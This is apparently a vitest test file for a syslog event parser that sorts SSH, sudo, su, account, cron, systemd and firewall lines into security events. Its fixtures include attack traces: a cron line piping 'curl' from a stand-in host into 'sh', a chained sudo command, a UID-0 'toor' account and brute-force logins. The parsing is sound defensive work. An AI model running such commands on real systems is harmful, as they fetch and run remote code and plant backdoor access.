import { describe, expect, it } from 'vitest';
import type { LogRecord } from '../../records/records';
import { extractEvent } from './syslog-events';

function event(program: string | undefined, message: string): Omit<LogRecord, 'lineNo' | 'tsMs' | 'raw'> {
  const rec: LogRecord = { lineNo: 1, tsMs: 0, kind: 'syslog', raw: '' };
  extractEvent(rec, program, message);
  const { lineNo, tsMs, raw, ...fields } = rec;
  return fields;
}

describe('sshd', () => {
  it.each([
    [
      'Failed password for root from 216.160.83.57 port 29160 ssh2',
      { kind: 'ssh_failed', userName: 'root', srcIp: '216.160.83.57', srcPort: 29160, result: 'failed' },
    ],
    [
      'Failed password for invalid user webmaster from 173.234.31.186 port 38926 ssh2',
      { kind: 'ssh_failed', userName: 'webmaster', result: 'invalid_user', srcPort: 38926 },
    ],
    ['Failed none for invalid user 0 from 5.188.10.180 port 49153 ssh2', { kind: 'ssh_failed', userName: '0', result: 'invalid_user' }],
    ['Failed publickey for bob from 2001:db8::1 port 22 ssh2: RSA SHA256:x', { kind: 'ssh_failed', userName: 'bob', srcIp: '2001:db8::1' }],
    [
      'message repeated 2 times: [ Failed password for root from 183.62.140.253 port 59598 ssh2]',
      { kind: 'ssh_failed', srcIp: '183.62.140.253', srcPort: 59598 },
    ],
    [
      'Accepted password for fztu from 119.137.62.142 port 49116 ssh2',
      { kind: 'ssh_accepted', userName: 'fztu', srcIp: '119.137.62.142', srcPort: 49116, result: 'success' },
    ],
    ['Accepted publickey for vagrant from 10.0.2.2 port 63673 ssh2: RSA 39:33:99', { kind: 'ssh_accepted', userName: 'vagrant', srcPort: 63673 }],
    ['Invalid user test from 10.0.2.2', { kind: 'ssh_invalid_user', userName: 'test', srcIp: '10.0.2.2' }],
    ['Invalid user admin from 10.0.2.2 port 4242', { kind: 'ssh_invalid_user', userName: 'admin', srcPort: 4242 }],
    ['Did not receive identification string from 2.125.160.217', { kind: 'ssh_no_ident', srcIp: '2.125.160.217' }],
    ["Bad protocol version identification 'GET / HTTP/1.1' from 1.2.3.4 port 5", { kind: 'ssh_no_ident', srcIp: '1.2.3.4' }],
    ['banner exchange: Connection from 1.2.3.4 port 5: invalid format', { kind: 'ssh_no_ident', srcIp: '1.2.3.4', srcPort: 5 }],
    [
      'reverse mapping checking getaddrinfo for ns.example.com [173.234.31.186] failed - POSSIBLE BREAK-IN ATTEMPT!',
      { kind: 'ssh_break_in', srcIp: '173.234.31.186' },
    ],
    ['Address 1.2.3.4 maps to x.example, but this does not map back to the address - POSSIBLE BREAK-IN ATTEMPT!', { kind: 'ssh_break_in', srcIp: '1.2.3.4' }],
    ['Received disconnect from 183.62.140.253: 11: Bye Bye [preauth]', { kind: 'ssh_preauth', srcIp: '183.62.140.253' }],
    ['Received disconnect from 1.2.3.4 port 22: 11: Bye Bye [preauth]', { kind: 'ssh_preauth', srcPort: 22 }],
    [
      'error: Received disconnect from 103.99.0.122: 14: No more user authentication methods available. [preauth]',
      { kind: 'ssh_preauth', srcIp: '103.99.0.122' },
    ],
    ['Received disconnect from 119.137.62.142: 11: disconnected by user', { kind: 'syslog', srcIp: '119.137.62.142' }],
    ['Connection closed by 1.2.3.4 port 5 [preauth]', { kind: 'ssh_preauth', srcIp: '1.2.3.4', srcPort: 5 }],
    ['Connection closed by 1.2.3.4 [preauth]', { kind: 'ssh_preauth', srcIp: '1.2.3.4' }],
    ['Connection closed by authenticating user root 1.2.3.4 port 5 [preauth]', { kind: 'ssh_preauth', userName: 'root', srcIp: '1.2.3.4' }],
    ['Disconnected from invalid user oracle 1.2.3.4 port 5 [preauth]', { kind: 'ssh_preauth', userName: 'oracle', srcIp: '1.2.3.4' }],
    [
      'PAM 4 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=183.62.140.253  user=root',
      { kind: 'ssh_too_many_failures', srcIp: '183.62.140.253', userName: 'root' },
    ],
    ['PAM 1 more authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=5.36.59.76', { kind: 'ssh_too_many_failures', srcIp: '5.36.59.76' }],
    ['Disconnecting: Too many authentication failures for admin [preauth]', { kind: 'ssh_too_many_failures', userName: 'admin' }],
    [
      'Disconnecting invalid user admin 1.2.3.4 port 5: Too many authentication failures [preauth]',
      { kind: 'ssh_too_many_failures', userName: 'admin', srcIp: '1.2.3.4' },
    ],
    ['error: maximum authentication attempts exceeded for root from 1.2.3.4 port 5 ssh2 [preauth]', { kind: 'ssh_too_many_failures', srcIp: '1.2.3.4' }],
    ['Connection from 1.2.3.4 port 5555 on 10.0.0.5 port 22 rdomain ""', { kind: 'accept', srcIp: '1.2.3.4', srcPort: 5555, dstIp: '10.0.0.5', dstPort: 22 }],
    ['fatal: Write failed: Connection reset by peer [preauth]', { kind: 'ssh_error' }],
    [
      'pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=112.95.230.3  user=root',
      { kind: 'ssh_failed', result: 'pam_failure', srcIp: '112.95.230.3', userName: 'root' },
    ],
    ['pam_unix(sshd:session): session opened for user fztu by (uid=0)', { kind: 'login', userName: 'fztu' }],
    // Newer PAM prints the account's uid: a system uid tells a service account (a backup) from a person.
    ['pam_unix(sshd:session): session opened for user backup(uid=998) by (uid=0)', { kind: 'login', userName: 'backup', uid: 998 }],
    ['input_userauth_request: invalid user webmaster [preauth]', { kind: 'syslog' }],
    ['Server listening on 0.0.0.0 port 22.', { kind: 'syslog' }],
  ])('%s', (message, expected) => {
    expect(event('sshd', message)).toMatchObject(expected);
    expect(event('sshd-session', message)).toMatchObject(expected);
  });

  it('reads old RHEL `sshd(pam_unix)` lines, with host names in rhost kept out of srcIp', () => {
    expect(event('sshd(pam_unix)', 'authentication failure; logname= uid=0 euid=0 tty=NODEVssh ruser= rhost=218.188.2.4 ')).toEqual({
      kind: 'ssh_failed',
      result: 'pam_failure',
      srcIp: '218.188.2.4',
    });
    expect(
      event('sshd(pam_unix)', 'authentication failure; logname= uid=0 euid=0 tty=NODEVssh ruser= rhost=220-135-151-1.hinet-ip.hinet.net  user=root'),
    ).toEqual({
      kind: 'ssh_failed',
      result: 'pam_failure',
      userName: 'root',
    });
  });
});

describe('accounts and privileges', () => {
  it.each([
    [
      'sudo',
      'vagrant : TTY=pts/1 ; PWD=/home/vagrant ; USER=root ; COMMAND=/bin/cat /var/log/secure',
      { kind: 'sudo', userName: 'vagrant', cwd: '/home/vagrant', argv: ['/bin/cat', '/var/log/secure'], exe: '/bin/cat', euid: 0, result: 'USER=root' },
    ],
    [
      'sudo',
      '     tsg : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/vagrant ; USER=root ; COMMAND=/bin/ls',
      { kind: 'sudo_denied', userName: 'tsg', result: 'user NOT in sudoers', argv: ['/bin/ls'] },
    ],
    [
      'sudo',
      'bob : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/id',
      { kind: 'sudo_denied', result: '3 incorrect password attempts' },
    ],
    [
      'sudo',
      'bob : TTY=pts/0 ; PWD=/ ; USER=www-data ; COMMAND=/bin/sh -c echo a ; id',
      { kind: 'sudo', result: 'USER=www-data', argv: ['/bin/sh', '-c', 'echo', 'a', ';', 'id'] },
    ],
    [
      'sudo',
      'pam_unix(sudo:auth): authentication failure; logname=bob uid=1000 euid=0 tty=/dev/pts/0 ruser=bob rhost=  user=bob',
      { kind: 'auth', result: 'failed', userName: 'bob' },
    ],
    ['su', 'pam_unix(su:session): session opened for user root by bob(uid=1000)', { kind: 'su', userName: 'bob', uid: 1000, euid: 0, result: 'USER=root' }],
    ['su', 'pam_unix(su-l:session): session opened for user root(uid=0) by bob(uid=1000)', { kind: 'su', userName: 'bob', result: 'USER=root' }],
    ['su(pam_unix)', 'session opened for user cyrus by (uid=0)', { kind: 'su', uid: 0, result: 'USER=cyrus' }],
    ['su', '(to root) bob on pts/0', { kind: 'su', userName: 'bob', result: 'USER=root' }],
    ['su', 'FAILED su for root by bob', { kind: 'su', userName: 'bob', result: 'failed' }],
    ['su', '+ pts/0 bob:root', { kind: 'su', userName: 'bob', result: 'USER=root' }],
    ['useradd', 'new user: name=apache, UID=48, GID=48, home=/usr/share/httpd, shell=/sbin/nologin', { kind: 'user_add', userName: 'apache', uid: 48 }],
    ['useradd', 'new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0', { kind: 'user_add', userName: 'toor', uid: 0 }],
    ['groupadd', 'new group: name=apache, GID=48', { kind: 'group_add', userName: 'apache', result: 'GID=48' }],
    ['usermod', "add 'bob' to group 'sudo'", { kind: 'user_mod', userName: 'bob', result: "add 'bob' to group 'sudo'" }],
    ['usermod', "change user 'bob' UID from '1000' to '0'", { kind: 'user_mod', userName: 'bob' }],
    ['passwd', 'pam_unix(passwd:chauthtok): password changed for bob', { kind: 'passwd_change', userName: 'bob' }],
    ['chpasswd', 'pam_unix(chpasswd:chauthtok): password changed for root', { kind: 'passwd_change', userName: 'root' }],
    ['passwd', "password for 'bob' changed by 'root'", { kind: 'passwd_change', userName: 'bob' }],
    [
      'CRON',
      '(root) CMD (   cd / && run-parts --report /etc/cron.hourly)',
      { kind: 'cron_run', userName: 'root', argv: ['/bin/sh', '-c', 'cd / && run-parts --report /etc/cron.hourly'] },
    ],
    ['/usr/sbin/cron', '(bob) CMD (curl -s http://x.example/a.sh | sh)', { kind: 'cron_run', userName: 'bob' }],
    ['crontab', '(bob) REPLACE (bob)', { kind: 'cron_replace', userName: 'bob' }],
    ['cron', '(*system*) RELOAD (/etc/crontab)', { kind: 'cron_replace', userName: '*system*' }],
    ['cron', '(CRON) INFO (Running @reboot jobs)', { kind: 'syslog' }],
    ['-- root', 'ROOT LOGIN ON tty2', { kind: 'login', userName: 'root' }],
    ['login', 'FAILED LOGIN 1 FROM 10.1.1.1 FOR bob, Authentication failure', { kind: 'auth', userName: 'bob', srcIp: '10.1.1.1', result: 'failed' }],
  ])('%s: %s', (program, message, expected) => {
    expect(event(program, message)).toMatchObject(expected);
  });
});

describe('system', () => {
  it.each([
    ['systemd', 'Started nginx.service - A high performance web server and a reverse proxy server.', { kind: 'service_start', result: 'unit=nginx.service' }],
    ['systemd', 'Started Daily apt download activities.', { kind: 'service_start', result: 'unit=Daily apt download activities' }],
    ['systemd', 'Started Session 3 of user bob.', { kind: 'syslog' }],
    ['systemd', 'Reloading.', { kind: 'unit_new', result: 'daemon-reload' }],
    ['systemd', "Reloading requested from client PID 4242 ('systemctl') (unit session-3.scope)...", { kind: 'unit_new' }],
    [
      'systemd',
      'Configuration file /etc/systemd/system/evil.service is marked executable. Please remove executable permission bits.',
      { kind: 'unit_new', paths: ['/etc/systemd/system/evil.service'] },
    ],
    [
      'kernel',
      '[UFW BLOCK] IN=eth0 OUT= MAC=aa:bb SRC=1.2.3.4 DST=10.0.0.5 LEN=60 TOS=0x00 PREC=0x00 TTL=50 ID=1 DF PROTO=TCP SPT=40000 DPT=22 WINDOW=1 RES=0x00 SYN URGP=0',
      { kind: 'firewall_drop', srcIp: '1.2.3.4', dstIp: '10.0.0.5', srcPort: 40000, dstPort: 22, result: 'UFW BLOCK TCP' },
    ],
    [
      'kernel',
      '[ 1234.567890] IPTables-Dropped: IN=eth0 OUT= MAC= SRC=5.6.7.8 DST=10.0.0.5 LEN=40 PROTO=UDP SPT=53 DPT=3333 LEN=20',
      { kind: 'firewall_drop', srcIp: '5.6.7.8', dstPort: 3333, result: 'IPTables-Dropped UDP' },
    ],
    ['kernel', '[UFW ALLOW] IN= OUT=eth0 SRC=10.0.0.5 DST=8.8.8.8 LEN=60 PROTO=UDP SPT=1 DPT=53', { kind: 'syslog', dstIp: '8.8.8.8' }],
    ['kernel', 'IN=eth0 OUT= SRC=1.1.1.1 DST=2.2.2.2 PROTO=ICMP TYPE=8', { kind: 'firewall_drop', srcIp: '1.1.1.1', result: 'netfilter ICMP' }],
    ['kernel', 'Kernel command line: ro root=/dev/sda1 ip=10.0.0.9::10.0.0.1:255.255.255.0::eth0:off', { kind: 'address_assigned', srcIp: '10.0.0.9' }],
    ['dhclient', 'bound to 10.0.0.5 -- renewal in 1742 seconds.', { kind: 'address_assigned', srcIp: '10.0.0.5' }],
    ['dhclient[812]', 'DHCPREQUEST for 10.0.0.5 on eth0 to 10.0.0.1 port 67', { kind: 'syslog' }],
    ['NetworkManager', '<info>  [1599999999.1234] dhcp4 (eth0):   address 10.0.0.5', { kind: 'address_assigned', srcIp: '10.0.0.5', result: 'iface=eth0' }],
    [
      'NetworkManager',
      '<info>  [1700000000.0000] dhcp4 (enp0s3): state changed new lease, address=192.168.1.20',
      { kind: 'address_assigned', srcIp: '192.168.1.20' },
    ],
    ['NetworkManager', "<info>  [1599.1] dhcp4 (eth0): option ip_address           => '10.0.0.7'", { kind: 'address_assigned', srcIp: '10.0.0.7' }],
    ['systemd-networkd', 'eth0: DHCPv4 address 10.0.0.6/24 via 10.0.0.1', { kind: 'address_assigned', srcIp: '10.0.0.6', result: 'iface=eth0' }],
    ['dhcpcd', 'eth0: leased 10.0.0.8 for 86400 seconds', { kind: 'address_assigned', srcIp: '10.0.0.8' }],
    ['cloud-init', 'ci-info: | eth0 | True | ip=10.0.0.11 |', { kind: 'address_assigned', srcIp: '10.0.0.11' }],
    ['ftpd', 'connection from 24.54.76.216 (24-54-76-216.bflony.adelphia.net) at Fri Jun 17 07:07:00 2005 ', { kind: 'accept', srcIp: '24.54.76.216' }],
    ['klogind', 'Authentication failed from 163.27.187.39 (163.27.187.39): Software caused connection abort ', { kind: 'auth', srcIp: '163.27.187.39' }],
    ['nginx', 'Failed password for root from 1.2.3.4 port 1 ssh2', { kind: 'syslog' }],
    [undefined, 'Failed password for root from 1.2.3.4 port 1 ssh2', { kind: 'syslog' }],
  ])('%s: %s', (program, message, expected) => {
    expect(event(program, message)).toMatchObject(expected);
  });
});
